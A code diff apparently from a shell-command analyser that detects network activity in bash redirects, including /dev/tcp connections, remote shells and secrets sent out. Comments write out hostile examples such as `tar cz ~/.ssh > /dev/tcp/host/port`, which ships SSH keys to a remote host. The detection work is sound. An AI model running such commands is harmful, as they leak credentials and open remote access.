@@ -1,4 +1,5 @@
-import { type Arg, isKnown } from "../model/arg.js";
+import { secretOrigin } from "../expand/secret-origin.js";
+import { type Arg, isKnown, unknown } from "../model/arg.js";
 import type { Call, Redirect } from "../model/call.js";
 import { type Effect, type HttpEffect, opaqueEffect, plainEffect } from "../model/effect.js";
 import type { World } from "../model/world.js";
@@ -7,32 +8,53 @@ import { givenShell, isShellName } from "./hand-over.js";
 import { isWithin, resolvePath } from "./path.js";
 import { isRawHttp } from "./raw-http.js";
 import { effects, join, nothing, type Reading } from "./reader.js";
-import { readSent } from "./sent-text.js";
+import { sentSecrets } from "./sent-files.js";
+import { readSent, type Socket } from "./sent-text.js";
 import { overwritingUnknown } from "./unforeseen.js";
 
 /** What the shell itself opens for a call, before the program starts. No shim sees it: unknown words are asked about. */
-export function readRedirects(call: Call, world: World): Reading {
+export function readRedirects(call: Call, world: World, sockets: Sockets = new Map()): Reading {
   if (call.redirects.length === 0) return nothing;
   return join(
     effects(...call.redirects.flatMap((redirect) => readRedirect(call, world, redirect))),
-    readSockets(call),
+    readSockets(call, world, sockets),
   );
 }
 
+/** Where descriptors lead that `exec 3<>/dev/tcp/host/port` has opened. */
+export type Sockets = Map<string, Socket>;
+
 /** What goes out over `/dev/tcp`, or over a descriptor that was opened before, is read as if nc sent it. */
-function readSockets(call: Call): Reading {
-  for (const { operator, target } of call.redirects) {
+function readSockets(call: Call, world: World, sockets: Sockets): Reading {
+  for (const { operator, target, descriptor } of call.redirects) {
     const socket = findSocket(target);
     if (socket !== undefined) {
+      if (toolName(call) === "exec") sockets.set(String(descriptor ?? "any"), socket);
       const name = toolName(call).replace(/^.*\//, "");
       if (isShellName(name)) return effects(givenShell(name, `${socket.host}:${socket.port}`));
-      return readSent(call, socket);
+      // What cat is given is nc's.
+      const isCat = toolName(call) === "cat" && call.argv.length > 1;
+      return join(readSent(call, socket), isCat ? nothing : sentOutput(call, world, socket));
     }
     const isDescriptor = operator === ">&" && isKnown(target) && /^([3-9]|\d\d+)$/.test(target);
-    const isHeld = operator === ">&" && !isKnown(target);
-    if (isDescriptor || isHeld) return readSent(call, undefined, isRawHttp);
+    const isHeld = operator === ">&" && (!isKnown(target) || target === "");
+    if (isDescriptor || isHeld) {
+      // `exec {fd}>…` takes the first that is free from ten on.
+      const held = (isDescriptor ? sockets.get(target) : undefined) ?? sockets.get("any");
+      return join(
+        readSent(call, undefined, isRawHttp),
+        held === undefined ? nothing : sentOutput(call, world, held),
+      );
+    }
   }
   return nothing;
+}
+
+/** `tar cz ~/.ssh > /dev/tcp/host/port`: what it prints tells of secrets. */
+function sentOutput(call: Call, world: World, { host }: Socket): Reading {
+  const origin = secretOrigin(call, world);
+  if (origin === undefined) return nothing;
+  return effects(...sentSecrets(call, world, toolName(call), { host, texts: [unknown("stdout", origin)] }));
 }
 
 function readRedirect(call: Call, world: World, redirect: Redirect): readonly Effect[] {
@@ -69,7 +91,7 @@ function readRedirect(call: Call, world: World, redirect: Redirect): readonly Ef
 }
 
 /** bash opens these itself: `> /dev/tcp/host/port` is a network connection, not a file. */
-function findSocket(target: Arg): { readonly host: string; readonly port: string } | undefined {
+function findSocket(target: Arg): Socket | undefined {
   const match = /^\/dev\/(?:tcp|udp)\/([^/]+)\/(.+)$/.exec(isKnown(target) ? target : target.prefix);
   const [, host, port] = match ?? [];
   return host === undefined || port === undefined ? undefined : { host, port };
